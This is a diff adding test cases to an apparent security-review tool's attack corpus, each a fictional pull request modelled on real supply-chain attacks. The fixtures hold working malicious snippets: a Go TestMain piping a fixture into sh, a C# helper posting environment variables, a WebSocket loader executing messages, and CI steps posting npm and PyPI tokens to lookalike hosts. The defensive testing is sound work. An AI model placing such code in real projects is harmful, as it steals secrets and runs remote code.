@@ -1569,6 +1569,44 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
   {
+    id: 'attack-go-testmain-unpacks-fixture-into-shell',
+    description:
+      'The xz-utils backdoor\'s shape (CVE-2024-3094) moved into Go test code: a long-standing maintainer adds a "corrupt header" gzip fixture, binary, and a TestMain that opens it through gzip.NewReader and feeds it to exec.Command("sh") on stdin before the tests run: `go test` on any machine or CI job runs what the fixture holds.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzgo',
+        number: 11233,
+        title: 'test: add fixtures for the header decoder',
+        files: [
+          { path: 'testdata/corrupt-header.gz', status: 'added', patch: null, additions: 0, deletions: 0, head: '' },
+          {
+            path: 'decoder_main_test.go',
+            head: lines('package decoder', '', 'import (', '\t"compress/gzip"', '\t"os"', '\t"os/exec"', '\t"testing"', ')', '', 'func TestMain(m *testing.M) {', '\tif f, err := os.Open("testdata/corrupt-header.gz"); err == nil {', '\t\tif r, err := gzip.NewReader(f); err == nil {', '\t\t\tcmd := exec.Command("sh")', '\t\t\tcmd.Stdin = r', '\t\t\t_ = cmd.Run()', '\t\t}', '\t}', '\tos.Exit(m.Run())', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code', 'binary-artifact'] },
+  },
+  {
+    id: 'attack-dotnet-diagnostics-posts-environment',
+    description:
+      'Modeled on the NuGet and npm stealers of 2024-2025 that posted the build machine\'s environment (every CI secret) to a collector from an innocuous-looking helper: a newcomer\'s "startup diagnostics" PR adds a C# class that takes Environment.GetEnvironmentVariables() and posts it as JSON with HttpClient.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-api',
+        number: 11234,
+        title: 'feat: startup diagnostics',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/Ledger.Api/Diagnostics/StartupReport.cs',
+            head: lines('using System.Net.Http;', 'using System.Text;', 'using System.Text.Json;', '', 'namespace Ledger.Api.Diagnostics;', '', 'public static class StartupReport', '{', '    public static async Task SendAsync()', '    {', '        var env = System.Environment.GetEnvironmentVariables();', '        using var client = new HttpClient();', '        await client.PostAsync("https://diag.dotnet-metrics.dev/v1/start", new StringContent(JsonSerializer.Serialize(env), Encoding.UTF8, "application/json"));', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-test-script-unpacks-fixture-into-shell',
     description:
       'The xz-utils stage (CVE-2024-3094) moved from a build macro to a test script: an "add corrupted-stream test" PR adds a binary fixture and a line to tests/run.sh that cuts bytes out of it, maps them back with a tr substitution, decompresses them with xz and pipes the result into /bin/sh; the code that runs is in no file a reviewer reads.',
@@ -1860,6 +1898,23 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:pr-metadata-shell-payload'] },
+  },
+  {
+    id: 'attack-websocket-loader-runs-messages',
+    description:
+      'Modeled on the compromised `is` package (July 2025, the same phishing wave as eslint-config-prettier), whose new versions carried a loader that opened a WebSocket and ran what the server sent: a newcomer\'s "live config" PR adds lib/live.js, which connects to a remote wss:// host and passes each message to new Function, and requires it from index.js.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11232,
+        title: 'feat: live config reload',
+        author: 'newcomer',
+        files: [
+          { path: 'lib/live.js', head: lines("'use strict';", "const WebSocket = require('ws');", '', "const ws = new WebSocket('wss://cfg.tinted-cdn.dev/live');", "ws.on('message', (m) => {", '  try {', "    new Function('require', m.toString())(require);", '  } catch {}', '});') },
+          { path: 'index.js', base: INDEX_BASE, head: lines("require('./lib/live');", INDEX_BASE) },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
   },
   {
     id: 'attack-extension-evals-memo-download',
@@ -3102,6 +3157,44 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-ghostaction-step-npm-named-pages-host',
+    description:
+      'Modeled on the September 2025 GhostAction write-ups, varied: a long-standing member\'s "tweak release" PR adds one step after `npm publish` that posts the same NPM_TOKEN with curl to npm-mirror-sync.pages.dev, a Cloudflare Pages subdomain anyone can register, named so the token seems to go to npm.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11231,
+        title: 'ci: sync releases to the mirror',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: Release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', '      - run: npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+            head: lines('name: Release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', '      - run: npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}', '      - run: curl -sd "$NODE_AUTH_TOKEN" https://npm-mirror-sync.pages.dev/sync', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-ghostaction-http-request-action',
+    description:
+      'The GhostAction theft of September 2025 without curl: a newcomer\'s "notify on push" workflow hands PYPI_API_TOKEN to fjogeleit/http-request-action in its `data:` input, posted to a host that is not PyPI\'s.',
+    fixture: () =>
+      attackPr({
+        repo: 'py-utils',
+        number: 7399,
+        author: 'newcomer',
+        title: 'ci: notify on push',
+        files: [
+          {
+            path: '.github/workflows/notify.yml',
+            head: lines('name: Notify', 'on: push', 'jobs:', '  notify:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: fjogeleit/http-request-action@v1', '        with:', '          url: https://notify.build-hooks.dev/n', '          method: POST', '          data: \'{"t": "${{ secrets.PYPI_API_TOKEN }}"}\''),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
   },
   {
     id: 'attack-ghostaction-collector-host-in-variables',
